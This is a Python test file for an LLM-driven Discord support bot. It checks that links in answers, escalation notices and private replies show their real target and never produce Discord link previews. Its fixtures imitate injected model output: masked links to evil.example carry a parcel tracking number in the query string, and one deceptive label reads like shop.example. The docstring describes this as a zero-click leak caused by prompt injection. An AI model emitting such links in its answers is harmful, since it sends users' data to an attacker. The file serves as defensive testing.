"""End to end: links the model writes reach Discord showing their real target, and no message the bot sends
or edits gets a link preview (Discord would fetch the link, and whatever its query string carries, before
anyone clicks: a zero-click leak of what the answer was talked into adding)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from fakes.anthropic import Reply
from fakes.discord import FakeDiscord, FakeMessage, MessageFlag

from bot.types import ThreadRef
from integrations.discord import respond
from integrations.discord.inbound import PLATFORM
from tests.discord.rig import DiscordRig, RigFactory, sources_line, subcommand
from tests.discord.test_discord_leads import answered, button, lead_tables, leads_channel

TRACKING = "1Z999AA10123456784"
INJECTED = (
    f"Your parcel {TRACKING} is on its way. [Track your parcel](https://evil.example/?d={TRACKING}) "
    f"or see [https://shop.example/track](https://evil.example/x?d={TRACKING}); "
    f"add https://evil.example/bare?d={TRACKING} too."
)
SHOWN = (
    f"Your parcel {TRACKING} is on its way. Track your parcel (<https://evil.example/?d={TRACKING}>) "
    f"or see <https://evil.example/x?d={TRACKING}>; "
    f"add <https://evil.example/bare?d={TRACKING}> too."
)
MESSAGE_ROUTES = (
    "/channels/{channel_id}/messages",
    "/channels/{channel_id}/messages/{message_id}",
    "/interactions/{interaction_id}/{interaction_token}/callback",
    "/webhooks/{webhook_id}/{webhook_token}",
    "/webhooks/{webhook_id}/{webhook_token}/messages/@original",
    "/webhooks/{webhook_id}/{webhook_token}/messages/{message_id}",
)


def sent_bodies(fake: FakeDiscord) -> list[dict[str, Any]]:
    """The body of every message the bot created or edited (interaction responses too), oldest first."""
    bodies: list[dict[str, Any]] = []
    for call in fake.calls():
        if call.method not in ("POST", "PATCH") or call.route not in MESSAGE_ROUTES:
            continue
        body = call.body if isinstance(call.body, dict) else {}
        if call.route and call.route.endswith("/callback"):
            body = body.get("data") or {}
        if "content" in body:
            bodies.append(body)
    return bodies


def suppressed(flags: int | None) -> bool:
    return bool((flags or 0) & MessageFlag.SUPPRESS_EMBEDS)


def bare_urls(text: str) -> list[str]:
    """The URLs in ``text`` that Discord would preview: written without ``<…>`` around them."""
    return re.findall(r"(?<!<)https?://\S+", text)


def assert_no_preview(fake: FakeDiscord, message: FakeMessage) -> None:
    """``message`` shows no preview card: its embeds are suppressed, or its URLs are all in ``<…>``."""
    assert suppressed(message.flags) or bare_urls(message.content) == [], (message.flags, message.content)


async def test_links_in_an_answer_show_their_target_and_get_no_preview(discord_rig: RigFactory) -> None:
    rig = await discord_rig()
    fake = rig.fake
    filler = " ".join(f"Step {n}: keep the receipt of order ORD-{10000 + n}." for n in range(40))
    answer = f"{INJECTED}\n\n{filler}\n\n{INJECTED}"
    assert len(answer) > 2000  # so the answer continues in a second message
    rig.model.script(
        Reply.tool_use(("search_kb", {"query": "tracking"})),
        Reply.text(answer, tokens_per_second=3000, chunk=9),
    )
    question = await rig.mention(fake.alice, "where is my parcel?")

    messages = rig.answers(rig.thread_of(question))
    assert len(messages) >= 2
    shown = "".join(m.content for m in messages)
    assert shown.startswith(SHOWN) and shown.endswith(SHOWN)
    assert "shop.example" not in shown  # the label that read like another address is not shown
    for message in messages:
        assert not re.search(r"(?<!\\)\]\(", message.content)  # no masked link left
        assert_no_preview(fake, message)
    *earlier, last = messages
    assert all(suppressed(m.flags) for m in earlier)  # the continued-from messages, after their last edit
    assert sources_line(last) is not None and not suppressed(last.flags)  # the sources embed shows…
    assert bare_urls(last.content) == []  # …and the text next to it has no URL Discord would preview

    bodies = sent_bodies(fake)
    assert len(bodies) > len(messages)  # posts and edits, all checked
    for body in bodies:
        assert suppressed(body.get("flags")) or (body.get("embeds") and not bare_urls(body["content"])), body


async def test_notices_and_private_replies_get_no_preview(
    discord_rig: RigFactory, fake_discord: FakeDiscord, monkeypatch: pytest.MonkeyPatch
) -> None:
    rig: DiscordRig = await discord_rig(**lead_tables(fake_discord))
    fake = rig.fake
    thread, reply = await answered(rig, fake.alice, "I need a refund exception", "Exceptions need a lead.")
    await rig.click(fake.alice, reply, button(reply, "escalate"))  # answered at once: a callback
    [notice] = rig.answers(leads_channel(fake))
    handed_over = rig.answers(thread)[-1]
    assert suppressed(notice.flags) and suppressed(handed_over.flags)

    store = rig.core.store
    for n in range(15):  # summaries the model wrote, with a link each: a listing of several messages
        ref = ThreadRef(PLATFORM, str(fake.guild.id), str(fake.support.id), str(900_000_000_000_000_000 + n))
        await store.open_escalation(
            ref, str(fake.alice.id), f"Parcel {n} lost, see https://evil.example/?d={n}"
        )
    monkeypatch.setattr(respond, "ANSWER_WITHIN", 0.0)  # deferred, so the texts follow as followups
    listing = await fake.slash_command(
        fake.guild, fake.support, fake.lead, "support", subcommand(["escalations"], {})
    )

    def followups() -> list[FakeMessage]:
        answers = [r for r in fake.interaction_responses(listing) if r.kind == "followup" and r.status < 300]
        return [fake.message(r.message_id) for r in answers if r.message_id is not None]

    parts = await fake.wait_for(lambda: len(followups()) >= 2 and followups(), what="the listing in parts")
    assert [r.type for r in fake.interaction_responses(listing) if r.kind == "callback"] == [5]  # deferred
    assert "see https://evil.example/?d=" in "".join(m.content for m in parts)
    private = [m for m in fake.bot_messages() if m.ephemeral]
    assert len(private) >= 3  # the button's reply, the deferred listing's first part and its continuation
    assert all(suppressed(m.flags) for m in private)
    bodies = sent_bodies(fake)
    assert all(suppressed(body.get("flags")) or body.get("embeds") for body in bodies), bodies
